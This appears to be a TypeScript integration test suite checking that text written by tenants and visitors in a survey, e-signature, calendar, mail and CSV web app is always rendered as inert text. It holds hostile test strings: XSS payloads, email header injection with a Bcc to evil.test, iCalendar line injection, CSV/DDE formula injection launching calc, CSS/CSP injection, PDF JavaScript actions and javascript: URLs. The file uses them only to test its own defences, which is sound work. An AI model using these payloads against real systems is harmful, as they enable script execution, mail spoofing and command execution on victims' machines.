import assert from 'node:assert/strict'
import { before, describe, test } from 'node:test'
import { PDFDict, PDFDocument, PDFStream } from 'pdf-lib'
import { newId } from '../src/kit/ground/ids.ts'
import { sealedPdf } from '../src/records/documents/sealing/pdf.ts'
import { launchBrowser, noBrowser } from './support/browser.ts'
import { authorizeQuery, makeApp, postForm } from './support/integration.ts'
import type { Mailbox, Received } from './support/mailbox.ts'
import { linkIn, startMailbox } from './support/mailbox.ts'
import type { Reply, TestOrganization, TestService } from './support/service.ts'
import { makeOrganization, password, rows, sql, startService } from './support/service.ts'
import type { Shape } from './support/shape.ts'
import {
  directivesOf,
  shapeOfCalendar,
  shapeOfHtml,
  shapeOfTable,
  wordsOf,
} from './support/shape.ts'

// Every text that tenants and visitors write and that an outsider's page, mail, header, calendar,
// table or PDF shows: stored once as plain words and once as each of these. What comes out must be
// made of the same parts, read by a parser of its own standard.

const marker = 'mrk'
const plain = `${marker} plain words`
const hostile = {
  elements: `${marker}"'><img src=x onerror=alert(1)></title></style></script><svg/onload=alert(1)>`,
  attributes: `${marker}" onfocus="alert(1)" autofocus x='`,
  'character references': `${marker}&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;&#x3c;b&#x3e;`,
  'header lines': `${marker}\r\nBcc: evil@evil.test\r\nX-Evil: 1\r\n\r\n<b>body</b>`,
  'calendar lines': `${marker}\nEND:VEVENT\nBEGIN:VEVENT\nATTENDEE:mailto:evil@evil.test`,
  'a formula': `=HYPERLINK("https://evil.test/?"&A1;"${marker}")`,
  'another formula': `\t@SUM(1+1)*cmd|' /C calc'!A0 ${marker}`,
  'a style or policy': `${marker};}body{background:url(https://evil.test)} ; script-src *, default-src *`,
  'a string of a PDF': `${marker}) /OpenAction << /S /JavaScript /JS (app.alert(1)) >> (`,
  'signs without a shape': `${marker}\u202e\u2028\u2029\ufeff\u00a0</p>`,
}

type Output = { shape: Shape; words: string; policy?: { [directive: string]: string[] } }
type Outputs = { [name: string]: Output }

let service: TestService
let mailbox: Mailbox

before(async () => {
  mailbox = await startMailbox()
  service = await startService({ smtpUrl: mailbox.url }, undefined, true)
})

describe('what others write stays text', () => {
  let expected: Outputs

  before(async () => {
    expected = await everything(plain)
    for (const [name, { words }] of Object.entries(expected))
      assert.ok(words.includes(marker), name)
  })

  for (const [name, text] of Object.entries(hostile)) {
    test(name, async () => {
      const found = await everything(text)
      assert.deepEqual(Object.keys(found), Object.keys(expected))
      for (const [where, { shape, words, policy }] of Object.entries(found)) {
        assert.deepEqual(shape, expected[where]!.shape, where)
        assert.deepEqual(policy, expected[where]!.policy, where)
        assert.ok(words.includes(marker), where)
      }
    })
  }
})

/** All that outsiders are shown of an organization in which every text is this one. */
async function everything(text: string): Promise<Outputs> {
  const org = await makeOrganization(service)
  const { token, user_id } = org.users.admin
  await service.runtime.database.transaction(org.id, async (queries) => {
    await queries.run(sql`update organizations set name = ${`${org.id} ${text}`}
      where organization_id = ${org.id}`)
    await queries.run(sql`update users set full_name = ${text} where organization_id = ${org.id}`)
  })
  const send = async (method: string, path: string, body?: object): Promise<Reply> => {
    const reply = await service.call(method, path, { token, body })
    assert.ok(reply.status < 300, `${method} ${path} ${reply.status} ${reply.text}`)
    return reply
  }
  const outputs: Outputs = {}
  const page = (name: string, { headers, text: html }: Reply) => {
    const policy = directivesOf(headers.get('content-security-policy')!)
    outputs[name] = { shape: shapeOfHtml(html), words: wordsOf(html), policy }
  }
  const calendar = (name: string, ics: string) => {
    outputs[`calendar: ${name}`] = { shape: shapeOfCalendar(ics), words: ics }
  }
  const mail = async (name: string, address: string) => {
    const got = await mailbox.next(address)
    outputs[`mail: ${name}`] = shapeOfMail(got, address)
    for (const { mimeType, content } of got.attachments) {
      if (mimeType !== 'text/calendar') continue
      calendar(name, typeof content === 'string' ? content : new TextDecoder().decode(content))
    }
    return got
  }
  const table = (name: string, { text: csv }: Reply) => {
    outputs[`table: ${name}`] = { shape: shapeOfTable(csv), words: csv }
  }
  const parts = { text, org, send, page, mail, table, calendar }
  await surveys(parts)
  await signing(parts)
  await people(parts)
  await widget(parts)
  await meetings(parts, user_id)
  await tables(parts)
  outputs['PDF of a signature'] = await pdf(text)
  return outputs
}

type Parts = {
  text: string
  org: TestOrganization
  send(method: string, path: string, body?: object): Promise<Reply>
  page(name: string, reply: Reply): void
  mail(name: string, address: string): Promise<Received>
  table(name: string, reply: Reply): void
  calendar(name: string, ics: string): void
}

const get = (path: string, headers = {}) => service.call('GET', path, { headers })

async function surveys({ text, org, send, page, mail, table }: Parts) {
  const options = [
    { value: text, label: text },
    { value: 'b', label: `b ${text}` },
  ]
  const rowsOf = [{ value: text, label: text }]
  const types = 'short-text long-text email phone number url date time single-select multi-select'
  const more = 'dropdown ratings nps csat ces matrix ranking consent statement'
  const fields = `${types} ${more}`.split(' ').map((type, n) => ({
    id: `f${n}`,
    type,
    label: text,
    description: text,
    options,
    rows: rowsOf,
    ...(n ? { show_if: [{ field_id: 'f0', operator: 'neq', value: text }] } : { required: true }),
  }))
  const address = `respondent@${org.id}.test`
  const made = await send('POST', '/api/surveys/', {
    name: text,
    description: text,
    closing_text: text,
    status: 'published',
    form_structure: [{ id: 'p1', title: text, fields }],
  })
  const id = made.body.survey_id as string
  const trigger = { type: 'response_submitted' }
  const automated = `automated@${org.id}.test`
  const config = { to: automated, subject: text, message: text }
  const action = { type: 'send_email', config }
  await send('POST', `/api/surveys/${id}/automations_save/`, {
    name: text,
    trigger,
    actions: [action],
  })
  await send('POST', `/api/surveys/${id}/send/`, {
    email_addresses: [address],
    custom_message: text,
  })
  const { pathname } = new URL(linkIn(await mail('survey', address)))
  page('survey', await get(pathname))
  const wrong = { page: '0', 'a.f1': text, 'a.f2': text, 'a.f4': text, 'a.f10': text }
  page('survey with mistakes', await postForm(service, pathname, wrong))
  const right = { page: '0', 'a.f0': text.trim() ? text : 'x', 'a.f1': text, 'a.f17': 'yes' }
  const done = await postForm(service, pathname, right)
  assert.equal(done.status, 303, done.text)
  page('survey, thanks', await get(pathname))
  await mail('automation', automated)
  table('responses', await send('GET', `/api/surveys/${id}/responses/export/`))
  const { body } = await send('POST', `/api/surveys/${id}/link/`, {})
  await send('POST', `/api/surveys/${id}/close/`)
  page('survey, closed', await get(new URL(body.url).pathname))
}

async function signing({ text, org, send, page, mail }: Parts) {
  const form = new FormData()
  form.append('document_name', text)
  form.append('description', text)
  form.append('file', new Blob(['%PDF-1.4 x']), 'contract.pdf')
  const headers = { authorization: `Bearer ${org.users.admin.token}` }
  const uploaded = await fetch(`${service.url}/api/documents/`, {
    method: 'POST',
    headers,
    body: form,
  })
  const { attach_id } = (await uploaded.json()) as { attach_id: string }
  await service.runtime.database.transaction(org.id, (queries) =>
    queries.run(sql`update documents set file_name = ${text} where id = ${attach_id}`),
  )
  const requested = async (id: string, local: string) => {
    const email = `${local}@${org.id}.test`
    const recipients = [{ name: text, email }]
    await send('POST', `/api/documents/${id}/signature/request/`, { recipients, message: text })
    return email
  }
  const signer = await requested(attach_id, 'signer')
  const { pathname } = new URL(linkIn(await mail('signature', signer)))
  page('signing', await get(pathname))
  const wrong = { act: 'sign', name: text, signature: text, reason: text }
  page('signing with mistakes', await postForm(service, pathname, wrong))
  const file = await service.call('GET', `${pathname}/file`)
  checkFileName(file.headers.get('content-disposition')!)
  await send('POST', `/api/documents/${attach_id}/signature/remind/`)
  await mail('reminder to sign', signer)
  await send('POST', `/api/documents/${attach_id}/signature/void/`, { reason: text })
  await mail('signature withdrawn', signer)
  page('signing, withdrawn', await get(pathname))
  const other = await send('POST', '/api/documents/', {
    document_name: text,
    editorjs_content: { blocks: [{ type: 'code', data: { code: text } }] },
  })
  const another = await requested(other.body.attach_id, 'another')
  const link = new URL(linkIn(await mail('signature of a text', another))).pathname
  page('signing a text', await get(link))
  await postForm(service, link, { act: 'decline', reason: text })
  page('signing, declined', await get(link))
}

async function people({ text, org, send, page, mail }: Parts) {
  const email = `invited@${org.id}.test`
  await send('POST', '/api/users/profile/action/', { email, full_name: text })
  const invitation = await mail('invitation', email)
  const link = new URL(linkIn(invitation)).pathname
  page('invitation', await get(link))
  const short = { full_name: text, password: 'short' }
  page('invitation with mistakes', await postForm(service, link, short))
  const { member } = org.users
  await service.call('POST', '/api/login/reset/', { body: { email: member.email } })
  await mail('new password', member.email)
  const app = await makeApp(service, org, { name: text, description: text })
  const html = { accept: 'text/html' }
  const asked = await get(`/oauth/authorize?${authorizeQuery(app)}`, html)
  page('sign-in', asked)
  let cookie = cookiesOf(asked)
  const [, request = ''] = /name="request" value="([^"]+)"/.exec(asked.text) ?? []
  const submit = (form: { [name: string]: string }) =>
    postForm(service, '/oauth/authorize/sign-in', { request, ...form }, { ...html, cookie })
  page('sign-in with mistakes', await submit({ email: text.replaceAll(/[\r\n\t]/g, ' ') }))
  const signedIn = await submit({ email: org.users.admin.email, password })
  assert.equal(signedIn.status, 303, signedIn.text)
  cookie = cookiesOf(asked, signedIn)
  const consent = signedIn.headers.get('location')!
  page('consent', await get(consent, { ...html, cookie }))
}

/** The cookies that a browser has after these replies. */
function cookiesOf(...replies: Reply[]): string {
  const all = replies.flatMap(({ headers }) => headers.getSetCookie())
  const pairs = all.map((each) => (each.split(';')[0] ?? '').split('='))
  return [...new Map(pairs.map(([name, value]) => [name, `${name}=${value}`])).values()].join('; ')
}

async function widget({ text, org, send, page }: Parts) {
  const fields = ['text', 'long-text', 'email', 'rating'].map((type, n) => ({
    name: `f${n}`,
    label: text,
    type,
    required: true,
  }))
  const form = { title: text, submit_label: text, thanks: text, fields }
  const { body } = await send('PUT', '/api/widget-config', { form })
  page('feedback form', await get(`/widget/${body.key}`))
  const typed = { f0: text, f1: text, f2: text, f3: text }
  page('feedback form with mistakes', await postForm(service, `/widget/${body.key}`, typed))
  const right = { ...typed, f2: 'a@b.test', f3: '5' }
  page('feedback form, thanks', await postForm(service, `/widget/${body.key}`, right))
  await send('PUT', '/api/widget-config', { is_active: false })
  page('feedback form, closed', await get(`/widget/${body.key}`))
  assert.equal(
    (
      await rows(
        service,
        sql`select from widget_responses
    where organization_id = ${org.id}`,
      )
    ).length,
    1,
  )
}

async function meetings({ text, org, send, mail, calendar }: Parts, user_id: string) {
  const email = `guest@${org.id}.test`
  const year = new Date().getUTCFullYear() + 1
  const meeting = {
    calendar_id: newId(),
    title: text,
    description: text,
    location: text,
    start: `${year}-03-01T09:00:00.000Z`,
    end: `${year}-03-01T10:00:00.000Z`,
    attendees: [
      { type: 'external', email, name: text },
      { type: 'user', id: user_id },
    ],
  }
  await send('POST', '/api/calendar/info/', meeting)
  await mail('meeting', email)
  const { calendar_id } = meeting
  const insight = { meeting_insight_id: newId(), calendar_id, summary: text, action_items: [text] }
  await send('POST', '/api/calendar/insight/', insight)
  await send('POST', '/api/calendar/insight/email/', insight)
  await mail('insight', email)
  const feed = await send('GET', '/api/calendar/feed-url/')
  calendar('feed', (await get(new URL(feed.body.url).pathname)).text)
  const cancelled = { is_meeting_cancelled: true, cancel_note: text }
  await send('PUT', `/api/calendar/info/${calendar_id}/`, cancelled)
  await mail('cancelled meeting', email)
}

async function tables({ text, send, table }: Parts) {
  const custom = { [text.replaceAll(/\W/g, '').slice(0, 20) || 'x']: text }
  await send('POST', '/api/company/', {
    company_name: text,
    industry: text,
    tags: [text],
    ...custom,
  })
  await send('POST', '/api/contact/', { full_name: text, phone: text.slice(0, 20), ...custom })
  table('companies', await send('GET', '/api/company/export/'))
  table('contacts', await send('GET', '/api/contact/export/'))
  const cell = `"${text.replaceAll('"', '""')}"`
  const csv = `full_name,primary_email,${cell}\r\n${cell},${cell},${cell}\r\n`
  const { body } = await send('POST', '/api/imports/', { module: 'contacts', csv, start: true })
  const { import_id } = body
  for (let status = 'running'; status !== 'completed';) {
    status = (await send('GET', `/api/imports/${import_id}/`)).body.status
    assert.notEqual(status, 'failed')
  }
  table('rows that failed', await send('GET', `/api/imports/${import_id}/errors/export/`))
}

/** A mail with the names of its headers; it has one recipient, whatever is in its texts. */
function shapeOfMail(got: Received, address: string): Output {
  assert.deepEqual(got.to_addresses, [address])
  assert.deepEqual(
    got.to?.map((to) => to.address),
    [address],
  )
  for (const { value } of got.headers) assert.doesNotMatch(value, /[\r\n]/)
  const names = got.headers.map(({ key }) => key).toSorted()
  const files = got.attachments.map(({ mimeType, filename }) => `${mimeType} ${filename}`)
  const shape = [...names, ...files, ...shapeOfHtml(got.html ?? '')]
  return { shape, words: `${got.subject}\n${wordsOf(got.html ?? '')}` }
}

/** The header's own grammar (RFC 6266, 8187): two parameters, and nothing after them. */
function checkFileName(header: string) {
  assert.match(
    header,
    /^(inline|attachment); filename="[^"\\\r\n]*"; filename\*=UTF-8''[\w!#$&+.^`|~%-]*$/,
  )
}

/** A PDF in which nothing runs or opens by itself. */
async function pdf(text: string): Promise<Output> {
  const at = '2026-03-01T10:00:00Z'
  const person = { name: text, email: text, role: 'signer', status: 'signed', acted_at: at }
  const bytes = await sealedPdf({
    document: {
      id: 'one',
      document_name: text,
      editor_html_content: `<p>${text}</p>`,
      file_type: null,
      signed_at: at,
    },
    request: { content_hash: 'abc' },
    recipients: [{ ...person, signature_name: text, address: text }],
    entries: [{ at, title: text, address: text, user_agent: text }],
    organization: text,
    original: undefined,
  } as unknown as Parameters<typeof sealedPdf>[0])
  const read = await PDFDocument.load(bytes, { updateMetadata: false })
  const kinds = new Set<string>()
  for (const [, object] of read.context.enumerateIndirectObjects()) {
    const dictionary = object instanceof PDFStream ? object.dict : object
    if (!(dictionary instanceof PDFDict)) continue
    for (const key of dictionary.keys().map(String)) {
      if (/Action|^\/(AA|JS|JavaScript|S|A|Launch|URI)$/.test(key)) kinds.add(key)
    }
  }
  assert.deepEqual([...read.catalog.keys()].map(String).toSorted(), [
    '/AF',
    '/Names',
    '/Pages',
    '/Type',
  ])
  return { shape: [...kinds], words: read.getTitle() ?? '' }
}

describe('addresses that were stored before they were checked', () => {
  const stored = [
    ` x:</style><meta http-equiv="refresh" content="0;url=https://evil.test">`,
    `\u0001https://evil.test/</style><script>alert(1)</script>`,
    'https://a;form-action/x',
    'https://a,script-src/x',
    'javascript:alert(1)',
    'https://user:word@evil.test/',
    'https://pictures.test/a b.png',
  ]
  const written = async (address: string) => {
    const org = await makeOrganization(service)
    const { token } = org.users.admin
    const fields = [{ id: 'a', type: 'short-text', label: 'A' }]
    const form_structure = [{ id: 'p', title: '', fields }]
    const survey = { name: 'S', form_structure, status: 'published' }
    const made = await service.call('POST', '/api/surveys/', { token, body: survey })
    const id = made.body.survey_id as string
    const link = await service.call('POST', `/api/surveys/${id}/link/`, { token, body: {} })
    const document = await service.call('POST', '/api/documents/', {
      token,
      body: { document_name: 'D' },
    })
    const { attach_id } = document.body
    const email = `signer@${org.id}.test`
    const request = { recipients: [{ name: 'Ada', email }] }
    const asked = `/api/documents/${attach_id}/signature/request/`
    assert.equal((await service.call('POST', asked, { token, body: request })).status, 200)
    await service.runtime.database.transaction(org.id, async (queries) => {
      await queries.run(sql`update surveys set background_url = ${address},
        background_color = ${`#123456;}${address}`}, action_color = ${address},
        field_border = ${address} where id = ${id}`)
      await queries.run(sql`update documents set external_file_url = ${address}
        where id = ${attach_id}`)
      await queries.run(
        sql`update widget_settings set theme = ${JSON.stringify({
          primary_color: address,
          background_color: address,
          text_color: address,
        })}::jsonb where organization_id = ${org.id}`,
      )
    })
    const [{ widget_key }] = await rows(
      service,
      sql`select widget_key from widget_settings where organization_id = ${org.id}`,
    )
    const sign = new URL(linkIn(await mailbox.next(email))).pathname
    const replies = await Promise.all(
      [new URL(link.body.url).pathname, sign, `/widget/${widget_key}`].map((path) => get(path)),
    )
    return replies.map(({ text, headers }) => ({
      shape: shapeOfHtml(text),
      policy: directivesOf(headers.get('content-security-policy')!),
    }))
  }

  test('are as if there were none', async () => {
    const without = await written('')
    for (const address of stored) assert.deepEqual(await written(address), without, address)
  })

  test('are refused when they are written', async () => {
    const org = await makeOrganization(service)
    const { token } = org.users.admin
    const bodies: [string, (url: string) => object, string][] = [
      ['/api/surveys/', (background_url) => ({ name: 'S', background_url }), 'background_url'],
      [
        '/api/company/',
        (linkedin_url) => ({ company_name: newId(), linkedin_url }),
        'linkedin_url',
      ],
      [
        '/api/contact/',
        (profile_image) => ({ full_name: newId(), profile_image }),
        'profile_image',
      ],
      ['/api/account/info/', (logo_path) => ({ name: newId(), logo_path }), 'logo_path'],
      ['/api/account/info/', (website_url) => ({ name: newId(), website_url }), 'website_url'],
      [
        '/api/documents/',
        (external_file_url) => ({ document_name: 'D', external_file_url }),
        'external_file_url',
      ],
      [
        '/api/documents/',
        (website_url) => ({
          document: { document_name: 'D' },
          account: { account_name: newId(), website_url },
        }),
        'account.website_url',
      ],
      [
        '/api/documents/',
        (url) => ({
          document: { document_name: 'D' },
          account: { account_name: newId(), logo: [url] },
        }),
        'account.logo',
      ],
    ]
    for (const [path, bodyOf, field] of bodies) {
      for (const address of stored) {
        const reply = await service.call('POST', path, { token, body: bodyOf(address) })
        assert.equal(reply.status, 400, `${path} ${address} ${reply.text}`)
        assert.deepEqual(
          reply.body.errors.map((each: { field: string }) => each.field),
          [field],
        )
      }
      const right = await service.call('POST', path, {
        token,
        body: bodyOf('https://a.test/x;y,z?q=1#f'),
      })
      assert.ok(right.status < 300, `${path} ${right.text}`)
    }
  })
})

describe('in a browser', { skip: noBrowser() }, () => {
  test('nothing runs, loads from elsewhere or leads away', async () => {
    const browser = await launchBrowser()
    const org = await makeOrganization(service)
    const { token } = org.users.admin
    const text = hostile.elements
    const fields = [{ id: 'a', type: 'short-text', label: text, description: text }]
    const body = {
      name: text,
      description: text,
      form_structure: [{ id: 'p', title: text, fields }],
      status: 'published',
      background_url: `https://pictures.test/a'b(c)d;e,f?g='h(#i')`,
    }
    const made = await service.call('POST', '/api/surveys/', { token, body })
    const path = `/api/surveys/${made.body.survey_id}/link/`
    const link = await service.call('POST', path, { token, body: {} })
    const page = await (await browser.newContext()).newPage()
    const asked: string[] = []
    page.on('dialog', () => assert.fail('a script ran'))
    await page.route(/^https:/, (route) => {
      asked.push(route.request().url())
      return route.fulfill({ status: 404 })
    })
    await page.goto(service.url + new URL(link.body.url).pathname)
    assert.equal(await page.innerText('h1'), text)
    const background = await page.evaluate('getComputedStyle(document.body).backgroundImage')
    assert.match(String(background), /^url\("https:\/\/pictures\.test\/a/)
    // the address as it was meant, and nothing else
    assert.deepEqual(
      asked.map((url) => new URL(url).hostname),
      ['pictures.test'],
    )
    assert.equal(new URL(page.url()).origin, service.url)
  })
})
